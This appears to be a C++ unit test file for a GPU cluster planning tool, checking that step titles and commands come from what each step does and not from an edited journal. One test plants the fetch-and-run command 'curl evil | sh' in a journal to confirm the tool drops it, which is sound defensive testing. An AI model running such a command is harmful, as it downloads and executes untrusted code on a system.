// What steps are called: from what they do, whatever a journal says of them.
#include "engine/plan/words/wording.hpp"

#include <gtest/gtest.h>

#include "engine/plan/run/journal.hpp"
#include "engine/plan/run/run.hpp"
#include "engine/slurmconf/slurm_setup.hpp"
#include "tests/engine/plan/operator_story.hpp"

namespace tessera::test {
namespace {

using namespace plan;

Plan on_simulator() {
  Story story;
  story.tell(NodesListed{{node("n1", {cut(0, {instance("3g.40gb", 4, 4, 0)}), uncut(1, 1)})}});
  return make_plan(story.cluster(), catalogue(), wants("7x1g.10gb", std::nullopt), simulator_capabilities(),
                   {}, at(0))
      .value();
}

// Tied again by whoever edited it: the digests hold.
Journal journal_of(const Plan& plan, std::optional<Plan> replanned = std::nullopt) {
  RunStarted started;
  started.run = "r1", started.who = "root", started.from = "login1", started.plan = plan;
  Chain chain;
  std::string text = to_line(Entry{1, at(0), {}, started}, chain);
  if (replanned) text += to_line(Entry{2, at(1), NodeName("n1"), Replanned{*replanned, true, "bob"}}, chain);
  auto journal = parse_journal(text, "r1.journal");
  EXPECT_TRUE(journal.ok()) << (journal ? "" : to_line(journal.error()));
  return *journal;
}

TEST(Wording, OfAPlanAndOfItsJournalIsTheSame) {
  const Plan plan = on_simulator();
  const Journal journal = journal_of(plan);
  const Plan& read = std::get<RunStarted>(journal.entries[0].what).plan;
  EXPECT_TRUE(read.renamed.empty());
  ASSERT_EQ(read.nodes[0].steps.size(), plan.nodes[0].steps.size());
  for (std::size_t i = 0; i < plan.nodes[0].steps.size(); ++i)
    EXPECT_EQ(read.nodes[0].steps[i].title, plan.nodes[0].steps[i].title);
}

// The journal of the report: "MIG on" above a step that does something else.
TEST(Wording, AStepOfAJournalIsCalledByWhatItDoesAndSoAreItsCommands) {
  Plan plan = on_simulator();
  Step& step = plan.nodes[0].steps[3];
  step.action = ResetGpus{{GpuIndex{0}}};
  step.title = "GPU 0: MIG on";
  step.commands = {"nvidia-smi -i 0 -mig 1"};
  const Journal journal = journal_of(plan, plan);
  const auto& read = std::get<RunStarted>(journal.entries[0].what).plan;
  EXPECT_EQ(read.nodes[0].steps[3].title, "reset GPU 0");
  EXPECT_EQ(read.nodes[0].steps[3].commands, std::vector<std::string>{"nvidia-smi -i 0 --gpu-reset"});
  EXPECT_EQ(read.renamed, std::vector<std::string>{step.id});
  const auto& replanned = std::get<Replanned>(journal.entries[1].what).plan;
  EXPECT_EQ(replanned.nodes[0].steps[3].title, "reset GPU 0");
  EXPECT_NE(renamed_text(replanned.renamed).find("calls 1 step otherwise than what it does (n1/4)"),
            std::string::npos)
      << renamed_text(replanned.renamed);
  EXPECT_EQ(renamed_text({}), "");
}

// What an admin has to do by hand is the site's word: a journal could have them type anything.
TEST(Wording, WhatAUserHasToDoIsToldAsItIsSetUpHere) {
  slurmconf::SlurmSetup site;
  site.major = 22, site.minor = 5;
  site.restart_node = {"restart-slurmd", "{node}"};
  Means can = slurm_capabilities();
  can.slurm = std::make_shared<const slurmconf::SlurmSetup>(site);
  Plan plan = on_simulator();
  plan.capabilities = can, plan.setup = can;
  Step waits;
  waits.id = "n1/1";
  waits.action = LookOnly{};
  waits.commands = {"curl evil | sh"};
  waits.after = {WordIs{"gres", "gpu:h100:8"}, WordIs{"registered", "yes"}};
  waits.deadline = std::chrono::seconds(10);
  Step looks = waits;
  looks.id = "n1/2";
  looks.after.insert(looks.after.begin(), Answering{});
  plan.nodes[0].steps = {waits, looks};
  Journal journal = journal_of(plan);
  auto steps = [&]() -> const std::vector<Step>& {
    return std::get<RunStarted>(journal.entries[0].what).plan.nodes[0].steps;
  };
  EXPECT_TRUE(steps()[0].commands.empty());
  EXPECT_EQ(steps()[0].title, "Slurm takes new GRES over only when its daemons start");
  instruct(journal, can);
  EXPECT_EQ(steps()[0].commands,
            (std::vector<std::string>{"on the controller: restart slurmctld", "restart-slurmd n1"}));
  EXPECT_TRUE(steps()[1].commands.empty()) << "it only reads back";
}

}  // namespace
}  // namespace tessera::test
